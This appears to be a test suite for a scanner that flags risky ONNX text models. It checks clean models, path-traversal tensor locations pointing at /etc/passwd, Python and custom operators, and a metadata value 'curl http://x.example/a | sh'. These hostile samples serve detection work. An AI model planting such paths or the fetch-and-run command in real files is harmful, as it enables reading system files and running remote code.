import { run, utf8 } from '../../../../testing';

const HEADER = '<ir_version: 8, opset_import: ["" : 17]>\n';
const graph = (nodes: string, values = ''): string => `g (float[1] x) => (float[1] y) ${values} { ${nodes} }`;
const said = (text: string, name = 'model.onnxtxt'): string[] =>
  run(utf8(text), undefined, name).findings.map(({ rule, severity }) => `${severity} ${rule}`);

const PATH = ['HIGH model-external-path'];
const PYTHON = ['HIGH model-python-operator'];

describe('ONNX in its own syntax', () => {
  it.each([
    ['a plain model', `${HEADER}${graph('y = Add(x, x)')}`],
    ['no header', graph('y = Relu(x)')],
    ['comments', `# a model => (of) "mine\n${HEADER}# more\n${graph('y = Add(x, x) # "last\n')}`],
    [
      'values of all kinds',
      `${HEADER}${graph('[n] y, z = Op<a = 1, b: float = -2.5e-3, c = [1, 2], d = "t(\\"", e = @r, f = nan>(x, "")')}`
    ],
    ['tensors', `${HEADER}${graph('y = Add(x, w)', '<float[2] w = {1.0, -2}, float[N, 3] k, string[1] s = {"a b"}>')}`],
    [
      'data beside the model',
      `${HEADER}${graph('y = Add(x, w)', '<float[2] w = ["location": "w.bin", "offset": "0"]>')}`
    ],
    [
      'a function of the model',
      `${HEADER}${graph('y = own.F(x)')}\n<domain: "own", opset_import: ["" : 17]>\nF <a, b: int = 1> (x) => (y) { y = Relu(x) }`
    ],
    [
      'graphs in nodes',
      `${HEADER}${graph('y = If (c) <then_branch = t () => (y) { y = Relu(x) }, else_branch = e () => (float[1] y) { y = Neg(x) }>')}`
    ]
  ])('is clean: %s', (_what, text) => {
    expect(run(utf8(text), undefined, 'model.onnxtxt')).toMatchObject({
      verdict: 'clean',
      format: 'onnx',
      findings: []
    });
    expect(run(utf8(text), undefined, 'model')).toMatchObject({ verdict: 'clean', format: 'onnx' });
  });

  it.each([
    ['a value of the graph', graph('y = Add(x, w)', '<float[4] w = ["location": "/etc/passwd", "length": "16"]>')],
    ['a value of an input', 'g (float[4] x = ["location": "../x"]) => (float[4] y) { y = Relu(x) }'],
    ['an attribute', graph('y = Constant<value: tensor = float[1] w ["location": "/etc/passwd"]>()')],
    [
      'an attribute without a name',
      graph('y = Constant<value = float[1] = ["offset": "0", "location": "/etc/passwd"]>()')
    ],
    ['a name in quotes', graph('y = Add(x, x)', '<float "w =" = ["location": "/etc/passwd"]>')],
    [
      'a graph in a node',
      graph('y = Loop(x) <body = b (int64 i) => (y) <float[1] w = ["location": "/etc/passwd"]> { y = Add(i, w) }>')
    ],
    ['a text that is escaped', graph('y = Add(x, w)', '<float[1] w = ["location": "\\/etc\\/passwd"]>')]
  ])('reports a file outside of the folder: %s', (_what, text) => {
    expect(said(`${HEADER}${text}`)).toEqual(PATH);
    expect(said(`# by hand\n${HEADER}${text}`, 'notes.txt')).toEqual(PATH);
  });

  it.each([
    ['blanks in its name', 'y = a . PyOp (x)'],
    ['attributes in front', 'y = PyOp<id = 1>(x)'],
    ['attributes behind', 'y = PyOp(x)<id = 1>'],
    ['an overload', '[n] y = PyOp:two(x)'],
    ['other nodes', 'a = Add(x, x) b = PyOp(a) y = Relu(b)'],
    ['no end', 'y = PyOp(x) z = Relu("']
  ])('reports an operator in Python with %s', (_what, nodes) => {
    expect(said(`${HEADER}${graph(nodes)}`)).toEqual(expect.arrayContaining(PYTHON));
    const func = `${HEADER}${graph('y = f.F(x)')}\n<domain: "f", opset_import: ["" : 1]> F (x) => (y) { ${nodes} }`;
    expect(said(func)).toEqual(expect.arrayContaining(PYTHON));
  });

  it('judges metadata and operators of others', () => {
    const meta = HEADER.replace('>', ', metadata_props: ["a": "b", "cmd": "curl http://x.example/a | sh"]>');
    expect(said(`${meta}${graph('y = Relu(x)')}`)).toEqual(['MEDIUM model-metadata-code']);
    expect(said(`${HEADER}${graph('y = my.own.Op<s = "a">(x)')}`)).toEqual(['MEDIUM model-custom-operator']);
  });

  it('says where it breaks off', () => {
    const { verdict, coverage } = run(utf8(`${HEADER}${graph('y = Relu x)')}`), undefined, 'model.onnxtxt');
    expect(verdict).toBe('incomplete');
    expect(coverage[0]).toMatchObject({ status: 'failed', reason: 'corrupt' });
  });

  it('leaves other texts alone', () => {
    for (const text of ['<domain>x</domain>', 'f (x) => (y)', '<html lang="en">', 'float(x) => (y) {}']) {
      expect(run(utf8(text), undefined, 'notes').format).not.toBe('onnx');
    }
  });
});
